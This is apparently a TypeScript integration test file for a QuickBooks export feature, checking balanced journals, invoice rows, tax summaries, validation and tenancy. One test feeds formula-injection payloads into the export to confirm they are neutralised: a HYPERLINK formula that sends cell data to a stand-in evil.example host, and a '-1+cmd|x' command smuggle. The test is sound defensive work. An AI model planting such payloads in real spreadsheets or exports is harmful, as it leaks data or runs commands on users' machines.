import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { isoDay } from '@hive/shared/schemas/backoffice/reports';
import { toCsv } from '../merchant';
import { localTime, today } from '../../platform/time';
import { api, assertValidation, companyId, db, parseCsv, signedIn, type ApiResult } from '../../../test/admin-helpers';
import { databaseTargets, startTestServer, type Client, type Json, type TestServer } from '../../../test/helpers';

/*
 * The QuickBooks export (issue 21): each file downloaded and parsed back. IIF transactions balance
 * to zero; the CSV journal's debits equal its credits; the register sales journal's income is the
 * receipts' net sales of the period (refunds taken off) and its tax their tax; invoices and payments
 * are the database's; the account mapping is applied; bad periods are 400s; tenancy and licence.
 */

const Q = '/api/backoffice/quickbooks';

const cents = (value: string) => (value === '' ? 0 : Math.round(Number(value) * 100));

for (const target of databaseTargets()) {
  describe(`QuickBooks export [${target.name}]`, () => {
    let server: TestServer;
    let grocer: Client; // owner@greenleaf.test: Retail + Invoicing, with 90 days of register sales
    let atlas: Client;
    let green: number;
    let from: string;
    let to: string;

    const ok = (result: ApiResult, status = 200) =>
      assert.equal(result.status, status, `${status} expected, got ${result.status}: ${JSON.stringify(result.body)}`);
    const download = async (client: Client, query: Record<string, string>) => {
      const response = await client.request(`${Q}/export?${new URLSearchParams(query)}`);
      assert.equal(response.status, 200, await response.clone().text());
      return {
        text: await response.text(),
        disposition: response.headers.get('content-disposition') ?? '',
        type: response.headers.get('content-type') ?? '',
      };
    };

    /** The net sales and tax of a company's receipts in the period, each on its location's day (refunds taken off). */
    const receiptsOf = async (company: number) => {
      const receipts = await db(server)
        .selectFrom('receipts as r')
        .leftJoin('locations as l', 'l.id', 'r.location_id')
        .select(['r.kind', 'r.net_cents', 'r.tax_cents', 'r.created_at', 'l.timezone'])
        .where('r.company_id', '=', company)
        .execute();
      let net = 0;
      let taxes = 0;
      for (const r of receipts) {
        const day = isoDay(localTime(Number(r.created_at), r.timezone ?? 'UTC').day);
        if (day < from || day > to) continue;
        const sign = r.kind === 'refund' ? -1 : 1;
        net += sign * Number(r.net_cents);
        taxes += sign * Number(r.tax_cents);
      }
      return { net, taxes };
    };

    before(async () => {
      server = await startTestServer(target, { seedDemoSales: true });
      [grocer, atlas] = await Promise.all(['owner@greenleaf.test', 'owner@atlas.test'].map((e) => signedIn(server, e)));
      green = await companyId(server, 'green-leaf-grocers');
      const zone = (
        await db(server)
          .selectFrom('company_profiles')
          .select('timezone')
          .where('company_id', '=', green)
          .executeTakeFirstOrThrow()
      ).timezone;
      const day = today(server.clock.now(), zone);
      from = isoDay(day - 13);
      to = isoDay(day);
    });
    after(async () => {
      await server?.close();
    });

    it("the register sales journal (CSV for QuickBooks Online): balanced, and its income and tax are the receipts'", async () => {
      const file = await download(grocer, { kind: 'sales', format: 'csv', from, to });
      assert.match(file.disposition, new RegExp(`attachment; filename="quickbooks-sales-${from}-to-${to}\\.csv"`));
      const [head, ...rows] = parseCsv(file.text);
      assert.deepEqual(head, ['JournalNo', 'JournalDate', 'AccountName', 'Debits', 'Credits', 'Description', 'Name']);
      assert.ok(rows.length > 10);
      const byJournal = new Map<string, number>();
      for (const r of rows) byJournal.set(r[0]!, (byJournal.get(r[0]!) ?? 0) + cents(r[3]!) - cents(r[4]!));
      for (const [journal, balance] of byJournal) assert.equal(balance, 0, `${journal} does not balance`);
      const income = rows.filter((r) => r[2] === 'Sales').reduce((s, r) => s + cents(r[4]!) - cents(r[3]!), 0);
      const tax = rows.filter((r) => r[2] === 'Sales Tax Payable').reduce((s, r) => s + cents(r[4]!) - cents(r[3]!), 0);
      const { net, taxes } = await receiptsOf(green);
      assert.ok(net > 0);
      assert.equal(income, net);
      assert.equal(tax, taxes);
    });

    it('the same in IIF for QuickBooks Desktop: every transaction sums to zero; the mapping names the accounts', async () => {
      const types = await db(server)
        .selectFrom('payment_types')
        .select(['id', 'builtin'])
        .where('company_id', '=', green)
        .execute();
      const cash = types.find((t) => t.builtin === 'cash')!.id;
      ok(
        await api(grocer, 'PUT', `${Q}/settings`, {
          income: 'Grocery Sales',
          taxPayable: 'VAT Payable',
          tipsPayable: 'Tips Payable',
          receivable: 'Accounts Receivable',
          paymentAccounts: { [String(cash)]: 'Cash Drawer' },
          otherPayments: 'Undeposited Funds',
        }),
      );
      const file = await download(grocer, { kind: 'sales', format: 'iif', from, to });
      const lines = file.text
        .trim()
        .split('\r\n')
        .map((l) => l.split('\t'));
      assert.equal(lines[0]![0], '!TRNS');
      assert.equal(lines[1]![0], '!SPL');
      assert.equal(lines[2]![0], '!ENDTRNS');
      let open: number | null = null;
      let blocks = 0;
      const accounts = new Set<string>();
      for (const l of lines.slice(3)) {
        if (l[0] === 'TRNS') open = cents(l[6]!);
        else if (l[0] === 'SPL') open! += cents(l[6]!);
        else if (l[0] === 'ENDTRNS') {
          assert.equal(open, 0, 'a transaction does not balance');
          open = null;
          blocks += 1;
        }
        if (l[0] === 'TRNS' || l[0] === 'SPL') {
          accounts.add(l[4]!);
          assert.match(l[3]!, /^\d{2}\/\d{2}\/\d{4}$/);
        }
      }
      assert.ok(blocks >= 10);
      assert.ok(accounts.has('Grocery Sales') && accounts.has('Cash Drawer'));
      assert.ok(!accounts.has('Sales'));
    });

    it('invoices and their payments: the CSV rows are the invoice lines; IIF invoices and payments balance', async () => {
      const customer = (
        await db(server)
          .selectFrom('customers')
          .select('id')
          .where('company_id', '=', green)
          .orderBy('id')
          .executeTakeFirstOrThrow()
      ).id;
      const made = await api(grocer, 'POST', '/api/backoffice/customer_invoices', {
        customerId: customer,
        issueDate: to,
        dueDate: to,
        lines: [
          {
            itemId: null,
            description: 'Crates of apples, "Gala"',
            quantityHundredths: 300,
            unitPriceCents: 1_250,
            discountCents: 0,
            taxRateIds: [],
          },
          {
            itemId: null,
            description: '=Delivery',
            quantityHundredths: 100,
            unitPriceCents: 800,
            discountCents: 0,
            taxRateIds: [],
          },
        ],
        discountCents: 0,
        notes: '',
      });
      ok(made, 201);
      const sent = await api(grocer, 'POST', `/api/backoffice/customer_invoices/${made.body.id}/send`, {});
      ok(sent);
      ok(
        await api(grocer, 'POST', `/api/backoffice/customer_invoices/${made.body.id}/payments`, {
          amountCents: 2_000,
          paidOn: to,
          paymentTypeId: null,
          note: '',
        }),
      );
      const csv = parseCsv((await download(grocer, { kind: 'invoices', format: 'csv', from, to })).text);
      const mine = csv.filter((r) => r[0] === String(sent.body.number));
      assert.equal(csv[0]![0], 'InvoiceNo');
      assert.deepEqual(
        mine.map((r) => [r[5], r[6], r[7], r[8]]),
        [
          ['Crates of apples, "Gala"', '3', '12.50', '37.50'],
          ["'=Delivery", '1', '8.00', '8.00'],
        ],
      );
      assert.equal(mine[0]![11], '45.50');
      const iif = (await download(grocer, { kind: 'invoices', format: 'iif', from, to })).text
        .split('\r\n')
        .map((l) => l.split('\t'));
      const trns = iif.find((l) => l[0] === 'TRNS' && l[7] === String(sent.body.number))!;
      assert.deepEqual([trns[2], trns[4], trns[6]], ['INVOICE', 'Accounts Receivable', '45.50']);
      const payments = parseCsv((await download(grocer, { kind: 'payments', format: 'csv', from, to })).text);
      const paid = payments.filter((r) => r[5] === `Payment of invoice ${sent.body.number}`);
      assert.deepEqual(
        paid.map((r) => [r[2], r[3], r[4]]),
        [
          ['Undeposited Funds', '20.00', ''],
          ['Accounts Receivable', '', '20.00'],
        ],
      );
    });

    it('IIF text cells that would run as formulas open as text; amounts stay numbers', async () => {
      const customer = await api(grocer, 'POST', '/api/backoffice/customers', {
        name: '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
        email: '',
        phone: '',
        notes: '',
        points: 0,
      });
      ok(customer, 201);
      const made = await api(grocer, 'POST', '/api/backoffice/customer_invoices', {
        customerId: customer.body.id,
        issueDate: to,
        dueDate: to,
        lines: [
          {
            itemId: null,
            description: 'Formula customer',
            quantityHundredths: 100,
            unitPriceCents: 1_250,
            discountCents: 0,
            taxRateIds: [],
          },
        ],
        discountCents: 0,
        notes: '',
      });
      ok(made, 201);
      const sent = await api(grocer, 'POST', `/api/backoffice/customer_invoices/${made.body.id}/send`, {});
      ok(sent);
      const iif = (await download(grocer, { kind: 'invoices', format: 'iif', from, to })).text
        .split('\r\n')
        .map((l) => l.split('\t'));
      const rows = iif.filter((l) => (l[0] === 'TRNS' || l[0] === 'SPL') && l[7] === String(sent.body.number));
      assert.ok(rows.length >= 2, 'the invoice is in the file');
      for (const row of rows) {
        // The NAME column: quoted, so a spreadsheet app shows it rather than running it.
        assert.equal(row[5], "'=HYPERLINK( http://evil.example/?x= &A1, Open )");
      }
      // The credit to income is a negative amount, and a number: not quoted.
      assert.deepEqual(
        rows.map((r) => r[6]),
        ['12.50', '-12.50'],
      );
      // The CSVs' helper, shared: a negative amount written as text (the tax summary's refunds) is
      // still a number; a formula that merely starts like one is not.
      const csv = toCsv([{ header: 'Tax', value: (v: string) => v }], ['-12.50', '-1+cmd|x', '@SUM(A1)']);
      assert.deepEqual(parseCsv(csv).slice(1), [['-12.50'], ["'-1+cmd|x"], ["'@SUM(A1)"]]);
    });

    it('the tax summary and the preview agree with the file; bad periods are 400s', async () => {
      const preview = await api(
        grocer,
        'GET',
        `${Q}/preview?${new URLSearchParams({ kind: 'taxes', format: 'csv', from, to })}`,
      );
      ok(preview);
      const rows = parseCsv((await download(grocer, { kind: 'taxes', format: 'csv', from, to })).text).slice(1);
      assert.equal(preview.body.totalRows, rows.length);
      const tax = rows.reduce((s, r) => s + cents(r[4]!), 0);
      assert.equal(preview.body.totals.find((t: Json) => t.label === 'tax').cents, tax);
      const salesPreview = await api(
        grocer,
        'GET',
        `${Q}/preview?${new URLSearchParams({ kind: 'sales', format: 'csv', from, to })}`,
      );
      const debits = salesPreview.body.totals.find((t: Json) => t.label === 'debits').cents;
      assert.equal(debits, salesPreview.body.totals.find((t: Json) => t.label === 'credits').cents);
      assert.ok(salesPreview.body.rows.length <= 25);
      assertValidation(await api(grocer, 'GET', `${Q}/preview?kind=sales&format=csv&from=${to}&to=${from}`), 'to');
      assertValidation(await api(grocer, 'GET', `${Q}/preview?kind=sales&format=pdf&from=${from}&to=${to}`), 'format');
      assertValidation(await api(grocer, 'GET', `${Q}/preview?kind=sales&format=csv&from=2020-01-01&to=${to}`), 'to');
      assertValidation(
        await api(grocer, 'PUT', `${Q}/settings`, {
          income: '',
          taxPayable: 'x',
          tipsPayable: 'x',
          receivable: 'x',
          paymentAccounts: {},
          otherPayments: 'x',
        }),
        'income',
      );
    });

    it('the tax summary books an invoice whose lines carry different rates under each rate, as its document does', async () => {
      const rate = async (name: string, percent: number) => {
        const made = await api(grocer, 'POST', '/api/backoffice/tax_rates', {
          name,
          rate: percent,
          type: 'added',
          appliesToNewItems: false,
        });
        ok(made, 201);
        return made.body.id as number;
      };
      const [high, low] = [await rate('QB summary high', 10), await rate('QB summary low', 5)];
      const customer = (
        await db(server).selectFrom('customers').select('id').where('company_id', '=', green).executeTakeFirstOrThrow()
      ).id;
      const line = (description: string, unitPriceCents: number, taxRateIds: number[]) => ({
        itemId: null,
        description,
        quantityHundredths: 100,
        unitPriceCents,
        discountCents: 0,
        taxRateIds,
      });
      const made = await api(grocer, 'POST', '/api/backoffice/customer_invoices', {
        customerId: customer,
        issueDate: to,
        dueDate: to,
        lines: [line('Hamper', 10_000, [high]), line('Flowers', 4_000, [low]), line('Card', 1_000, [high, low])],
        discountCents: 1_500,
        notes: '',
      });
      ok(made, 201);
      ok(await api(grocer, 'POST', `/api/backoffice/customer_invoices/${made.body.id}/send`, {}));
      const document = await api(grocer, 'GET', `/api/backoffice/customer_invoices/${made.body.id}`);
      ok(document);
      const rows = parseCsv((await download(grocer, { kind: 'taxes', format: 'csv', from, to })).text).filter(
        (r) => r[0] === 'Invoices' && r[1]!.startsWith('QB summary'),
      );
      // 15.00 off 150.00 spread by value: Hamper 90.00, Flowers 36.00, Card 9.00 net.
      assert.deepEqual(rows, [
        ['Invoices', 'QB summary high', '10.00%', '99.00', '9.90'],
        ['Invoices', 'QB summary low', '5.00%', '45.00', '2.25'],
      ]);
      const onDocument = (document.body.taxes as Json[]).map((t) => [t.name, t.taxCents]);
      assert.deepEqual(onDocument, [
        ['QB summary high', 990],
        ['QB summary low', 225],
      ]);
      assert.equal(document.body.taxCents, 990 + 225);
    });

    it("one company's export holds only its own data; a company without Invoice or Invoicing gets 403", async () => {
      const rows = parseCsv((await download(atlas, { kind: 'sales', format: 'csv', from, to })).text).slice(1);
      const income = rows.filter((r) => r[2] === 'Sales').reduce((sum, r) => sum + cents(r[4]!) - cents(r[3]!), 0);
      assert.equal(income, (await receiptsOf(await companyId(server, 'atlas-consulting'))).net);
      const corner = await signedIn(server, 'owner@cornermarket.test');
      assert.equal((await corner.request(`${Q}/export?kind=sales&format=csv&from=${from}&to=${to}`)).status, 403);
    });
  });
}
